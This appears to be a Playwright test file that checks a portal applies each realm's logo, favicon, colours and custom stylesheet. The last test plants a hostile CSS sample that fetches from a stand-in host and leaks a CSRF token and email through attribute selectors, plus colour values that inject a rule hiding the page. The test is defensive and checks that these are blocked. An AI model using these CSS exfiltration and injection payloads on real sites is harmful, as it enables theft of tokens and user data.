"""A realm's look on the running portal: logo, favicon, three colours, style sheet."""

from __future__ import annotations

import base64
import io
from typing import Any

import pytest
from PIL import Image
from playwright.sync_api import Page, expect
from stack import Stack

PREFIX = "_providerConfig.assets."
SHEET = "h1 { letter-spacing: 7px } .btn.primary { border-radius: 23px }"


def picture() -> str:
    out = io.BytesIO()
    Image.new("RGB", (40, 40), "#7a1fa2").save(out, "PNG")
    return "data:image/png;base64," + base64.b64encode(out.getvalue()).decode()


def dress(stack: Stack, realm: str, **attributes: str) -> None:
    admin = stack.admin()
    found = admin.get(f"/admin/realms/{realm}")
    found["attributes"].update(attributes)
    admin.put(f"/admin/realms/{realm}", found)
    admin.close()


def style(page: Page, selector: str, name: str) -> str:
    return str(page.locator(selector).first.evaluate("(node, name) => getComputedStyle(node)[name]", name))


def colour(page: Page, selector: str) -> list[int]:
    """The background as red, green, blue, whatever notation the browser computes."""
    paint = """color => { const context = new OffscreenCanvas(1, 1).getContext("2d"); context.fillStyle = color;
        context.fillRect(0, 0, 1, 1); return [...context.getImageData(0, 0, 1, 1).data].slice(0, 3); }"""
    return list(page.evaluate(paint, style(page, selector, "backgroundColor")))


@pytest.mark.feature("P2-47")
@pytest.mark.feature("P2-48")
@pytest.mark.feature("P2-49")
@pytest.mark.feature("P2-50")
@pytest.mark.case("B4")
def test_the_portal_wears_what_the_realm_says(
    stack: Stack, spare_realm: str, person: Any, open_page: Any, eventually: Any
) -> None:
    someone = person(spare_realm)
    dress(
        stack, spare_realm, **{
            f"{PREFIX}logo.url": picture(), f"{PREFIX}favicon.url": picture(), f"{PREFIX}portal.css": SHEET,
            f"{PREFIX}portal.primaryColor600": "#7a1fa2", f"{PREFIX}portal.secondaryColor800": "#00695c",
            "portal.accentColor": "#fff8e1",
        },
    )  # fmt: skip
    page = open_page(f"/{spare_realm}/profile", someone, color_scheme="light")

    def worn() -> bool:
        page.reload()
        return page.locator("nav img.logo").count() == 1 and style(page, "h1", "letterSpacing") == "7px"

    eventually(worn, 20)
    assert page.locator("nav img.logo").evaluate("node => node.complete && node.naturalWidth > 0")
    assert "/branding/favicon-" in str(page.locator("link[rel=icon]").get_attribute("href"))
    assert colour(page, ".btn.primary") == [122, 31, 162]
    assert style(page, ".btn.primary", "borderRadius") == "23px"
    page.goto(f"/{spare_realm}/data/delete")
    expect(page.get_by_role("heading", name="Delete your account?")).to_be_visible()
    assert style(page, "h1", "letterSpacing") != "7px", "a page that decides wears no tenant style sheet"
    assert page.locator("link[href*='branding'][href$='colors.css']").count() == 1
    page.goto(f"/{spare_realm}/profile?safe-style=1")
    assert style(page, "h1", "letterSpacing") != "7px"
    page.goto(f"/{spare_realm}/no-such-page")
    assert style(page, "h1", "letterSpacing") != "7px"


@pytest.mark.feature("P2-51")
def test_the_documented_sample_restyles_the_running_portal(
    stack: Stack, spare_realm: str, person: Any, open_page: Any, eventually: Any
) -> None:
    import re
    from pathlib import Path

    text = (Path(__file__).parent.parent / "docs" / "styling.md").read_text(encoding="utf-8")
    [sample, *_] = re.findall(r"```css\n(.*?)```", text, re.DOTALL)
    someone = person(spare_realm)
    page = open_page(f"/{spare_realm}/profile", someone, color_scheme="light")
    before = (
        style(page, "body", "backgroundColor"),
        style(page, ".btn.primary", "borderRadius"),
        style(page, "h1", "fontFamily"),
    )
    dress(stack, spare_realm, **{f"{PREFIX}portal.css": sample})

    def restyled() -> bool:
        page.reload()
        now = (
            style(page, "body", "backgroundColor"),
            style(page, ".btn.primary", "borderRadius"),
            style(page, "h1", "fontFamily"),
        )
        return now != before

    eventually(restyled, 20)


HOSTILE = """@import url(http://evil.test/a.css);
@font-face { font-family: x; src: url(http://evil.test/f) }
body { background: url(http://evil.test/b); font-family: x }
[name=csrf_token][value^="I"] { background: u\\72l(http://evil.test/c) }
[value*="@tests.test"] { background-image: image-set("http://evil.test/d" 1x) }
h1 { letter-spacing: 7px }
"""


@pytest.mark.case("B1")
@pytest.mark.case("B2")
@pytest.mark.case("B6")
def test_a_hostile_look_reaches_nothing_and_hides_nothing(
    stack: Stack, spare_realm: str, person: Any, open_page: Any, eventually: Any
) -> None:
    someone = person(spare_realm)
    colours = {f"{PREFIX}portal.primaryColor600": "red;} body { display: none", "portal.accentColor": "var(--x)"}
    dress(stack, spare_realm, **{f"{PREFIX}portal.css": HOSTILE}, **colours)
    page = open_page(f"/{spare_realm}/profile", someone, color_scheme="light")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))

    def worn() -> bool:
        page.reload()
        return style(page, "h1", "letterSpacing") == "7px"

    eventually(worn, 20)
    page.wait_for_load_state("networkidle")
    assert {url.split("/")[2] for url in asked if url.startswith("http")} == {stack.portal_url.split("/")[2]}
    expect(page.get_by_role("button", name="Save profile")).to_be_visible()
    assert colour(page, ".btn.primary") == [42, 86, 198], "a colour that is none leaves the house's"
